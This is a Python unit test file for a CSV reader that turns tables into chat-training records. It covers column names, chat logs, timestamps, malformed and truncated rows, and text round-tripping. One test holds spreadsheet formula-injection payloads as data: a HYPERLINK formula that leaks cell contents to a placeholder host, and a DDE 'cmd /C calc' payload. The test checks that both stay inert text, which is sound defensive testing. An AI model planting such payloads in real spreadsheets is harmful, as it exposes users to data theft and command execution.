"""Tables: pairs under known or chosen names, messages of a chat, and nothing that computes."""

import csv
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chorus.common.errors import InvalidInput
from chorus.trainer.curation.records import EMPTY, Dropped, Message
from tests.unit.trainer.curation.written import Written, dropped, message, turns

shared = settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)


def table(*rows: tuple[str, ...], delimiter: str = ",") -> str:
    written = io.StringIO()
    csv.writer(written, delimiter=delimiter).writerows(rows)
    return written.getvalue()


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("names", [("user", "bot"), ("Question", "Answer"), ("prompt", "completion")])
def test_pairs_under_known_names(written: Written, delimiter: str, names: tuple[str, str]) -> None:
    text = table(names, ("née?", 'she said "no",\nthen; left'), ("a", " "), delimiter=delimiter)
    first, second = written.records(text)
    assert turns(first) == [("user", "née?"), ("assistant", 'she said "no",\nthen; left')]
    assert second == Dropped("empty message")


def test_columns_may_be_chosen(written: Written) -> None:
    text = table(("nr", "frage", "antwort"), ("1", "a", "b"))
    (record,) = written.records(text, user="frage", bot="antwort")
    assert turns(record) == [("user", "a"), ("assistant", "b")]


@pytest.mark.parametrize("options", [{"user": "fragen", "bot": "antwort"}, {"user": "frage"}, {}])
def test_a_wrong_choice_is_answered_with_the_columns_there_are(
    written: Written, options: dict[str, str]
) -> None:
    with pytest.raises(InvalidInput) as error:
        written.records(table(("frage", "antwort"), ("a", "b")), **options)
    assert error.value.code == "unknown_columns"
    assert '"frage", "antwort"' in error.value.message


def test_a_formula_is_text(written: Written) -> None:
    formula = '=HYPERLINK("http://x.invalid/?"&A1)'
    assert turns(written.records(table(("user", "bot"), (formula, "+1+cmd|' /C calc'!A0")))[0]) == [
        ("user", formula),
        ("assistant", "+1+cmd|' /C calc'!A0"),
    ]


def test_messages_of_a_chat(written: Written) -> None:
    header = ("id", "channel", "author_id", "author", "date", "content", "reply_to")
    records = written.records(
        table(
            header,
            ("7", "general", "42", "Mira", "2024-03-01T12:00:00+01:00", "hello", ""),
            ("8", "general", "", "Tom", "1709290800000", "hi", "7"),
            ("9", "general", "43", "Ann", "2024-03-01 11:00", "", ""),
            ("10", "general", "43", "Ann", "yesterday", "x", ""),
            ("11", "general", "", "", "2024-03-01 11:00", "x", ""),
        )
    )
    assert records[0] == Message("general", "42", "Mira", "hello", at=1709290800.0, id="7", source="file")
    assert records[1] == Message(
        "general", "name:Tom", "Tom", "hi", at=1709290800.0, id="8", reply_to="7", source="file"
    )
    assert records[2] is EMPTY
    assert dropped(records) == ["no text", "wrong shape", "wrong shape"]


def test_messages_need_neither_time_nor_channel(written: Written) -> None:
    record = message(written.records(table(("", "author", "content"), ("0", "mira", "hi")))[0])
    assert (record.author, record.channel, record.at) == ("name:mira", "", 0.0)


def test_times_that_nobody_can_read_are_told_at_once(written: Written) -> None:
    with pytest.raises(
        InvalidInput, match='Line 2 has no time that can be read in the column "date"'
    ) as error:
        written.records(table(("author", "content", "date"), ("mira", "hi", "5/6/24")))
    assert "5/6/24" not in error.value.message, "a cell may hold anybody's words"


def test_a_row_of_another_width_is_left_out_and_said(written: Written) -> None:
    records = written.records('user,bot\n"a\nb",c\nd\ne,f\n')
    assert records[1] == Dropped("wrong shape", "Line 4 has 1 cells, the header 2: it is left out.")
    assert len(records) == 3


def test_a_cell_without_end_is_no_table(written: Written) -> None:
    with pytest.raises(InvalidInput) as error:
        written.records('user,bot\na,"' + "x\n" * 100_000)
    assert error.value.code == "broken_table"


@pytest.mark.parametrize(
    "text", ["Hello, world\nfoo, bar\n", "12:05\tmira\thello\n12:06\ttom\thi\n", "one\ntwo\n"]
)
def test_prose_and_logs_are_no_tables(written: Written, text: str) -> None:
    reading = written.reading(text)
    assert len(list(reading.records)) == 1
    assert list(reading.formats) == ["plain text"]


def test_a_table_that_was_cut_off_loses_no_whole_row(written: Written) -> None:
    data = 'user,bot\n"é1","a\nb"\n"é2","🌊"\n'.encode()
    second = data.index('"é2"'.encode())
    for end in range(second, len(data) - 1):
        records = written.records(data[:end])
        assert turns(records[0]) == [("user", "é1"), ("assistant", "a\nb")]
        assert len(records) == (1 if end == second else 2)
    comma = data.index(b",", second)
    reasons = {end: dropped(written.records(data[:end])) for end in range(second + 1, comma + 4)}
    assert reasons.pop(comma + 1) == ["empty message"]  # it may be all there is
    assert set(map(tuple, reasons.values())) == {("cut off",)}


cells = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00\r"), min_size=1).filter(
    str.strip
)


@shared
@given(st.lists(st.tuples(cells, cells), min_size=1), st.sampled_from(",;\t"), st.randoms())
def test_all_text_survives(written: Written, rows: list[tuple[str, str]], delimiter: str, random) -> None:  # type: ignore[no-untyped-def]
    random.shuffle(rows)
    records = written.records(table(("user", "bot"), *rows, delimiter=delimiter))
    assert [turns(r) for r in records] == [[("user", a), ("assistant", b)] for a, b in rows]
